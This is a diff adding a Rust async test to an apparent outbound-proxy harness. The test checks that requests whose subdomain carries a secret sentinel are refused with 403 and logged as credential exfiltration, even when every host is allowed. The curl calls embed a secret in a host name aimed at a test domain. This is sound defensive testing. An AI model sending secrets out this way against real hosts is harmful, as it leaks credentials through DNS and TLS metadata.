@@ -1509,3 +1509,29 @@ async fn a_malformed_request_body_is_a_400_and_recorded() {
         "{events:?}"
     );
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_sentinel_in_a_host_name_is_refused_even_under_a_wildcard_grant() {
+    // `**` allows every host: a sentinel as a subdomain would leave through DNS, SNI and
+    // the upstream's logs without this check.
+    let h = harness_with(true, true, Limits::default()).await;
+    let leaky = format!("{}.other.test", SENTINEL.to_ascii_uppercase());
+    let (_, out) = curl(&h, &["-v", &format!("https://{leaky}/")]).await;
+    assert!(
+        out.contains("403") && out.contains("credential_exfiltration"),
+        "{out}"
+    );
+    let (_, out) = curl(&h, &["-i", &format!("http://{leaky}/")]).await;
+    assert!(
+        out.contains("403") && out.contains("credential_exfiltration"),
+        "{out}"
+    );
+    assert!(
+        recorded(&h)
+            .iter()
+            .any(|e| e.reason == Reason::CredentialExfiltration)
+    );
+    // The twin: the host without it.
+    let (code, out) = curl(&h, &[&url(&h, "https", "other.test", "/x")]).await;
+    assert_eq!(code, 0, "{out}");
+}
